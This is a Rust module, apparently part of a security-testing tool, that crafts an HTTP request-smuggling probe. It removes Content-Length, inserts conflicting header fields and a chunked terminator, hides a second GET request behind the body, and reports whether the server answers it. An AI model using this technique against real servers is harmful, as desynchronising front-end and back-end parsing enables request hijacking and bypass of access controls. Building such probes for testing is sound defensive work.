//! A request in whose body a second one hides, for readers who disagree on where the first ends.

use std::time::Duration;

use crate::draft::Signed;
use crate::range::Range;
use crate::wire::Reply;

/// How long a second answer is waited for.
const SECOND_WITHIN: Duration = Duration::from_millis(700);

/// Sends `signed` with `fields` in the place of its `Content-Length`, a chunked end and a second
/// request behind it. A second answer means that the hidden request was read: that is no refusal.
pub(crate) async fn smuggle(range: &Range, mut signed: Signed, fields: &str) -> Reply {
    let length = signed.body.len().to_string();
    signed.remove("Content-Length");
    let fields = fields.replace("{length}", &length);
    let head = signed
        .head()
        .replacen("\r\n\r\n", &format!("\r\n{fields}\r\n"), 1);
    let authority = range.trust.origin.trim_start_matches("https://");
    let hidden = format!("0\r\n\r\nGET / HTTP/1.1\r\nHost: {authority}\r\n\r\n");
    let bytes = [head.as_bytes(), &signed.body, hidden.as_bytes()].concat();

    let Some(mut wire) = range.connect(range.phone()).await else {
        return Reply::Closed;
    };
    let first = wire.exchange(&bytes).await;
    match wire.answer(SECOND_WITHIN).await {
        second @ Reply::Answer(_) if first.passed() => second,
        Reply::Answer(mut second) => {
            second.status = 200;
            Reply::Answer(second)
        }
        Reply::Closed | Reply::Silent => first,
    }
}
